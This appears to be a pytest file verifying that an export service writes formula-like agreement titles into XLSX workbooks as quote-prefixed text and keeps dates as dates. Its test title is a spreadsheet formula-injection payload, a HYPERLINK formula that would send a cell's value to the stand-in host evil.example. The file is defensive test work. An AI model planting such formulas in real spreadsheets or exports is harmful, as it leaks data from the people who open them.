"""A title that looks like a formula stays text in every XLSX export (issue 9.5).

Through the real server: the yearly monev report and the agreements export,
read back with openpyxl. The cell must be a string (not ``f``), flagged with
Excel's quote prefix, and dates must stay dates.
"""

from __future__ import annotations

import datetime as dt
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from test_api_support import add_key, client, file_records, make_settings, record, running_server

from service.spreadsheet import csv_cell

pytestmark = pytest.mark.slow

TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


def _find(data: bytes, text: object) -> list[object]:
    book = load_workbook(io.BytesIO(data))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value == text:
                    found.append(cell)
    return found


def test_formula_titles_are_text_in_every_xlsx(tmp_path: Path) -> None:
    settings = make_settings(tmp_path)
    file_records(settings, [record(TITLE, ["35.15"], signing=dt.date(2019, 3, 27))])
    with running_server(settings) as base, client(base, add_key(settings, "viewer")) as http:
        exported = http.get("/api/v1/export/agreements.xlsx")
        yearly = http.get("/api/v1/monev/reports/yearly", params={"year": 2019, "format": "xlsx"})
    for data in (exported.content, yearly.content):
        cells = _find(data, TITLE)
        assert cells, "the title is not in the workbook"
        for cell in cells:
            assert cell.data_type == "s"  # type: ignore[attr-defined]
            assert cell.quotePrefix  # type: ignore[attr-defined]
        dates = _find(data, dt.datetime(2019, 3, 27))
        assert dates and all(c.is_date for c in dates)  # type: ignore[attr-defined]
    assert csv_cell("@SUM(A1)") == "'@SUM(A1)" and csv_cell("Kerja sama") == "Kerja sama"
